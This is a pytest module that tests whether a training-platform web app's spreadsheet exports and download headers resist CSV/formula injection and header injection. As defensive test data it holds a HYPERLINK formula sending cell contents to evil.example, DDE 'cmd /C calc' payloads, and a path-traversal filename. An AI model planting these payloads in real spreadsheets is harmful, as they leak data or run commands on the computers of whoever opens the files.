"""Every spreadsheet the site hands out is safe to open (issue 13, findings 2 and 8).

A world whose learners, employers, courses, base, declarations and evaluation hold text beginning with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return, and a course title with CR/LF and U+2028 in it (as data stored
before the forms refused line breaks). Every GET route of ``app.url_map`` is then asked by a learner, a base
admin, a regulator, an employer's admin and the platform administrator: whatever answers with a spreadsheet (XLSX
or CSV) is opened, no cell may be a formula and every hostile text must come back guarded: in XLSX as typed, a
string styled quotePrefix (an apostrophe written into the text would be shown as part of it), in CSV behind an
apostrophe; its download name must be a header without a line break. The exports found must be exactly those
declared in ``EXPORTS``, so that a new export route fails here until its hostile texts are declared and checked.
No route may answer a 5xx.
"""

import csv
import io
import re
import zipfile
from datetime import date, datetime
from io import BytesIO
from urllib.parse import unquote

import openpyxl
import pytest
from werkzeug.datastructures import FileStorage

from blueprints.downloads import content_disposition
from extensions import db
from models import (
    Category,
    Employer,
    Enrollment,
    EnrollmentStatus,
    HoursRecord,
    HoursSource,
    Mode,
    ProjectType,
    Role,
)
from seeding.demo import seed_reference
from services import annual_reports, declarations, evaluation, long_work
from services.infra import clock, spreadsheets
from services.infra.queue import run_queued
from tests.conftest import login

TODAY = date(2025, 6, 16)
YEAR = 2025

# OWASP's list: a spreadsheet program may run a cell that begins with any of these.
EQ = '=HYPERLINK("https://evil.example/?"&B3,"查看")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-1"  # typed as text by a user: text, and neutralised
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=2+2"
TITLE = "+SUM(1,1)培训\r\n第二行\u2028第三行"  # line breaks inside, as stored before the forms refused them

SPREADSHEET_TYPES = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "text/csv",
                     "application/vnd.ms-excel")
# Each export (endpoint) and the hostile texts the world puts into it.
EXPORTS = {
    "base_admin.roster_export": [EQ, CR, MINUS, PLUS, AT, TITLE],
    "regulator.export_catalog": [EQ, TITLE, AT, MINUS],
    "regulator.export_knowledge": [EQ, PLUS, AT],
    "regulator.export_strategic": [f"{EQ}：{MINUS}"],
    "regulator.evaluation_export": [EQ, TAB],
    "regulator.job_file": [EQ, TITLE, AT, MINUS],  # the catalog, made by a background job (services.long_work)
    "learner.registration_form": [TITLE, EQ, AT, MINUS, PLUS],
    "reviewer.staff_export": [EQ],  # the employer's staff: the learner's name
    "base_admin.roster_template": [],  # the import's blank template: headers only, nothing typed by anyone
    "platform.calendar_template": [],  # the holiday import's template (CSV): headers and an example, our own text
    "regulator.audit_export": [EQ],  # the audit log: entries name their base (named EQ here)
}
# <fmt> of a route: every format an export might be asked for.
FORMATS = ("xlsx", "csv", "xls", "pdf", "json")


def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


class World:
    pass


@pytest.fixture
def app_config(tmp_path):
    return {"EVIDENCE_FOLDER": str(tmp_path / "evidence")}


@pytest.fixture
def world(app, monkeypatch, make_user, make_base, make_course):
    monkeypatch.setattr(clock, "today", lambda: TODAY)
    regions = seed_reference()
    chengdu = regions["510100"]
    w = World()
    employer = Employer(name="成都市第一人民医院", region_id=chengdu.id)
    db.session.add(employer)
    db.session.commit()
    w.admin = make_user(Role.BASE_ADMIN, region_id=chengdu.id)
    w.employer_admin = make_user(Role.EMPLOYER_ADMIN, region_id=chengdu.id, employer_id=employer.id)
    w.regulator = make_user(Role.REGULATOR, region_id=chengdu.id)
    w.platform_admin = make_user(Role.PLATFORM_ADMIN, region_id=None)
    w.learner = make_user(Role.LEARNER, region_id=chengdu.id, name=EQ, employer_name=MINUS,
                          professional_title=AT, phone="13700000001", employer_id=employer.id)
    other = make_user(Role.LEARNER, region_id=chengdu.id, name=CR, employer_name=PLUS, phone="13700000002")
    w.base = make_base(name=EQ, admin=w.admin, region_id=chengdu.id, created_at=datetime(2024, 3, 1))
    w.course = make_course(w.base, title=TITLE, place=AT, mode=Mode.FACE_TO_FACE,
                           project_type=ProjectType.JOB_TRAINING, start_date=date(YEAR, 3, 2),
                           end_date=date(YEAR, 3, 3))
    w.course.audience = MINUS  # the factory fixes the audience
    completed = Enrollment(course_id=w.course.id, learner_id=w.learner.id, status=EnrollmentStatus.COMPLETED,
                           completed_at=datetime(YEAR, 3, 3, 8), completed_on=date(YEAR, 3, 3))
    db.session.add_all([completed, Enrollment(course_id=w.course.id, learner_id=other.id,
                                              status=EnrollmentStatus.CONFIRMED)])
    db.session.flush()
    db.session.add(HoursRecord(learner_id=w.learner.id, year=YEAR, category=Category.PROFESSIONAL, hours=16,
                               source=HoursSource.COURSE, course_id=w.course.id, enrollment_id=completed.id))
    db.session.add(HoursRecord(learner_id=w.learner.id, year=YEAR, category=Category.PUBLIC, hours=30,
                               source=HoursSource.IMPORT, note=MINUS))
    db.session.commit()
    w.declaration = declarations.declare(w.learner, {
        "kind": "conference", "category": "professional", "title": AT, "organiser": PLUS, "earned_on": TODAY,
        "minutes": None, "days": 1, "hours": None,
    }, [FileStorage(BytesIO(_pdf()), "证明.pdf", content_type="application/pdf")])
    db.session.add(HoursRecord(learner_id=w.learner.id, year=YEAR, category=Category.PROFESSIONAL, hours=8,
                               source=HoursSource.DECLARATION, declaration_id=w.declaration.id))
    db.session.commit()
    # What the base entered for the year's statistics: its department and notes, as typed.
    annual_reports.save(w.admin, w.base.id, YEAR, {"department": PLUS, "knowledge_note": AT, "strategic_note": MINUS,
                                                   "strategic": {"医养健康": {"trained": "3"}}})
    w.evaluation = evaluation.run(w.regulator, YEAR, chengdu.id)
    w.result = next(r for r in w.evaluation.results if r.base_id == w.base.id)
    w.result.override_reason = TAB
    db.session.commit()
    job = long_work.export(w.regulator, "catalog", YEAR, chengdu.id)
    run_queued()
    w.params = {
        "base_id": w.base.id, "course_id": w.course.id, "enrollment_id": completed.id,
        "declaration_id": w.declaration.id, "key": w.declaration.evidence[0].key, "year": YEAR,
        "evaluation_id": w.evaluation.id, "result_id": w.result.id, "plan_id": 1, "code": "X",
        "variant": "thumb", "token_id": 1, "external_id": "ext-1",
        # issue 17's pages: no spreadsheet among them but the employer's staff export, each asked all the same
        "employer_id": employer.id, "authority_id": 1, "application_id": 1, "file_id": 1, "token": "X",
        "filename": "x",
        "job_id": job.id,
    }
    return w


def urls(app, params: dict) -> list[tuple[str, str]]:
    """(endpoint, URL) of every GET rule but the static files, with each format a <fmt> may take.

    :raise AssertionError: a rule has a parameter this module cannot fill; declare it in the world's params.
    """
    found = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static" or rule.endpoint.endswith(".static"):
            continue
        names = set(rule.arguments) - {"fmt"}
        assert names <= set(params), f"{rule.rule}: no value for {names - set(params)}"
        for fmt in FORMATS if "fmt" in rule.arguments else (None,):
            values = {name: params[name] for name in names} | ({"fmt": fmt} if fmt else {})
            with app.test_request_context():
                found.append((rule.endpoint, app.url_for(rule.endpoint, **values)))
    return found


def is_spreadsheet(response) -> bool:
    name = response.headers.get("Content-Disposition", "")
    return response.mimetype.startswith(SPREADSHEET_TYPES) or bool(re.search(r"\.(xlsx|xls|csv)\b", name))


def cells(response) -> list[tuple[object, bool]]:
    """Every cell of the spreadsheet as (what a reader sees, whether it is guarded from running): in XLSX a
    string cell styled quotePrefix, in CSV a text behind the apostrophe (which the reader does not see).

    :raise AssertionError: a cell is a formula.
    """
    if response.mimetype.startswith("text/csv"):
        text = response.get_data().decode("utf-8-sig")
        return [(value[1:], True) if value.startswith("'") and value[1:].startswith(spreadsheets.FORMULA_STARTS)
                else (value, False) for row in csv.reader(io.StringIO(text)) for value in row]
    with zipfile.ZipFile(BytesIO(response.data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"a formula element in {name}"
    book = openpyxl.load_workbook(BytesIO(response.data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                values.append((cell.value, cell.data_type == "s" and cell.quotePrefix))
    return values


def _lines(text: str) -> str:
    # XML normalises a bare CR to LF when the file is read back.
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_every_spreadsheet_the_site_hands_out_is_safe_to_open(app, world):
    clients = {}
    for who in ("learner", "admin", "regulator", "employer_admin", "platform_admin"):
        clients[who] = app.test_client()
        assert login(clients[who], getattr(world, who)).status_code == 302
    found, errors = {}, []
    for endpoint, url in urls(app, world.params):
        for who, client in clients.items():
            response = client.get(url, query_string={"year": YEAR})
            if response.status_code >= 500:
                errors.append(f"{who} GET {url}: {response.status_code}")
            elif response.status_code == 200 and is_spreadsheet(response):
                found.setdefault(endpoint, []).append((who, url, response))
    assert errors == []
    assert sorted(found) == sorted(EXPORTS), "an export route not declared in EXPORTS, or a declared one not found"
    for endpoint, answers in found.items():
        for who, url, response in answers:
            disposition = response.headers["Content-Disposition"]
            assert re.fullmatch(r"attachment; filename=\"[ -~]+\"; filename\*=UTF-8''[A-Za-z0-9%!#$&+.^_`|~-]+",
                                disposition), (url, disposition)
            values = [(_lines(v), guarded) for v, guarded in cells(response) if isinstance(v, str)]
            dangerous = [v for v, guarded in values if v.startswith(spreadsheets.FORMULA_STARTS) and not guarded]
            assert dangerous == [], (who, url, dangerous)
            missing = [h for h in EXPORTS[endpoint] if (_lines(h), True) not in values]
            assert missing == [], (who, url, "hostile text not found as typed and guarded", missing, values)
            if not response.mimetype.startswith("text/csv"):  # in XLSX a written apostrophe would show
                shown = [v for v, _guarded in values if v.startswith("'")]
                assert shown == [], (who, url, "a visible apostrophe", shown)


def test_the_roster_of_a_course_whose_title_holds_line_breaks_downloads_under_that_title(app, world):
    client = app.test_client()
    login(client, world.admin)
    response = client.get(f"/manage/bases/{world.base.id}/courses/{world.course.id}/roster.xlsx")
    assert response.status_code == 200
    name = unquote(response.headers["Content-Disposition"].split("filename*=UTF-8''")[1])
    assert name == "+SUM(1,1)培训 第二行 第三行-名单.xlsx"


@pytest.mark.parametrize(("name", "fallback", "full"), [
    ("护理\r\n新进展-名单.xlsx", "download.xlsx", "护理 新进展-名单.xlsx"),
    ("a\u2028b\u2029c\x85d\u202egpj.xlsx", "a_b_c_dgpj.xlsx", "a b c dgpj.xlsx"),
    ('../../etc/"passwd";x.xlsx', "etc__passwd__x.xlsx", "_.._etc__passwd__x.xlsx"),
    ("\r\n", "download", "download"),
    ("2025年度培训项目目录.xlsx", "2025.xlsx", "2025年度培训项目目录.xlsx"),
    ("x" * 500 + ".xlsx", "x" * 115 + ".xlsx", "x" * 115 + ".xlsx"),
])
def test_download_names_are_one_header_line_whatever_the_text(name, fallback, full):
    header = content_disposition(name)
    assert not re.search(r"[\r\n\x00-\x1f\x7f]", header)
    assert header.startswith(f'attachment; filename="{fallback}"; ')
    assert unquote(header.split("filename*=UTF-8''")[1]) == full


def test_numbers_stay_numbers_and_text_never_runs():
    data = spreadsheets.xlsx("表", [[-5, 1.5, "-5", "=1+1", "@x", "\tx", "\rx", "正常", None, "a\x00b\x1bc"]])
    sheet = openpyxl.load_workbook(BytesIO(data)).active
    row = [cell for cell in next(sheet.iter_rows())]
    assert [c.value for c in row[:2]] == [-5, 1.5] and row[0].data_type == "n"
    # As typed, no apostrophe in the text (Excel would show it), a string that quotePrefix keeps from running.
    assert [c.value for c in row[2:6]] == ["-5", "=1+1", "@x", "\tx"]
    assert _lines(row[6].value) == "\nx" and row[7].value == "正常" and row[9].value == "abc"
    assert all(c.data_type == "s" and c.quotePrefix for c in row[2:7])
    assert not row[7].quotePrefix and not row[0].quotePrefix
    assert all(c.data_type != "f" for c in row)

